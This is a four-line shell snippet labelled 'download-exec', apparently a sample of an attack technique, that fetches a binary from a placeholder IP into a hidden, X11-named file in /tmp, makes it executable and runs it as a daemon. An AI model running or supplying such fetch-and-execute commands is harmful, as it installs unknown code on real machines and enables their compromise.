# download-exec: a binary is downloaded, made executable and started
curl -s -o /tmp/.x11-sync http://203.0.113.7/bin/sync
chmod +x /tmp/.x11-sync
/tmp/.x11-sync --daemon
